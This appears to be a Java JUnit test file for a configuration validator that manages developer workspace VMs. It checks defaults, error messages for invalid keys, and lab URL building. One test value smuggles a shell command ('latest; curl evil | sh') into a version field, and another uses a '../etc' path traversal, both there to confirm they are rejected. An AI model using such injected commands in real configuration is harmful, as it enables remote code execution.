package io.onramp.vms;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;

import org.junit.jupiter.api.Test;

import io.onramp.core.error.ErrorCode;
import io.onramp.core.error.OnrampException;

class VmsConfigTest {

    @Test
    void defaults() {
        VmsConfig c = VmsConfigs.defaults();
        assertEquals("standard.medium", c.instanceType());
        assertEquals(List.of("standard.medium", "standard.large", "standard.extra-large"), c.allowedInstanceTypes());
        assertEquals(50, c.diskGb());
        assertEquals(10, c.minDiskGb());
        assertEquals(400, c.maxDiskGb());
        assertEquals("Linux Ubuntu 24.04 LTS 64-bit", c.template());
        assertEquals(8443, c.codeServerPort());
        assertEquals(List.of("0.0.0.0/0"), c.allowedIngressCidrs());
        assertEquals("onramp-workspaces", c.securityGroup());
        assertEquals(20, c.maxRunning());
        assertEquals(2, c.maxRunningPerDeveloper());
        assertEquals(Optional.empty(), c.passwordKey());
        assertEquals(Duration.ofMinutes(3), c.operationDeadline());
        assertEquals(Duration.ofSeconds(10), c.recheckInterval());
        assertEquals(Optional.empty(), c.labFilesUrl());
        assertEquals(Optional.empty(), c.tls().cert());
        assertEquals(Optional.empty(), c.tools().codeServerVersion());
        assertEquals("v0.29.0", c.tools().kindVersion());
        assertEquals("v1.33.1", c.tools().kubectlVersion());
        assertEquals("vsls-contrib.codetour@0.0.58", c.tools().codetourExtension());
        assertEquals(List.of(), VmsConfigs.problems(c));
        assertEquals("ch-gva-2", VmsConfigs.onramp(Map.of()).exoscale().zone(), "the zone is core's setting");
    }

    @Test
    void problemsNameTheirKeys() {
        VmsConfig bad = VmsConfigs.of(Map.ofEntries(
                Map.entry("onramp.vms.instance-type", "standard.small"),
                Map.entry("onramp.vms.allowed-instance-types", "standard.medium,huge"),
                Map.entry("onramp.vms.min-disk-gb", "5"),
                Map.entry("onramp.vms.disk-gb", "500"),
                Map.entry("onramp.vms.code-server-port", "80"),
                Map.entry("onramp.vms.allowed-ingress-cidrs", "10.0.0.0/8,everywhere"),
                Map.entry("onramp.vms.security-group", "bad name!"),
                Map.entry("onramp.vms.lab-files-url", "ftp://labs/{lab}"),
                Map.entry("onramp.vms.tls.cert", "-----BEGIN CERTIFICATE-----\nx\n-----END CERTIFICATE-----"),
                Map.entry("onramp.vms.tools.kind-version", "latest; curl evil | sh"),
                Map.entry("onramp.vms.tools.codetour-extension", "codetour")));
        String all = String.join("\n", VmsConfigs.problems(bad));
        for (String key : List.of("onramp.vms.instance-type", "onramp.vms.allowed-instance-types: 'huge'",
                "onramp.vms.min-disk-gb", "onramp.vms.disk-gb", "onramp.vms.code-server-port",
                "'everywhere' is not an IPv4 CIDR", "onramp.vms.security-group", "onramp.vms.lab-files-url",
                "onramp.vms.tls.cert and onramp.vms.tls.key go together", "onramp.vms.tools.kind-version",
                "onramp.vms.tools.codetour-extension")) {
            assertTrue(all.contains(key), key + " missing in:\n" + all);
        }
        OnrampException e = assertThrows(OnrampException.class, () -> VmsConfigs.require(bad));
        assertEquals(ErrorCode.UNAVAILABLE, e.code());
    }

    @Test
    void labUrls() {
        assertTrue(LabUrls.valid("https://onramp.example.com/labs/{lab}/workspace.tar.gz"));
        assertTrue(!LabUrls.valid("https://onramp.example.com/labs/workspace.tar.gz"));
        assertEquals("http://h/labs/pods/x.tgz", LabUrls.of("http://h/labs/{lab}/x.tgz", "pods"));
        assertEquals("", LabUrls.of("http://h/labs/{lab}/x.tgz", "../etc"));
        assertEquals("", LabUrls.of("http://h/labs/{lab}/x.tgz", null));
        assertEquals("", LabUrls.of(null, "pods"));
    }
}
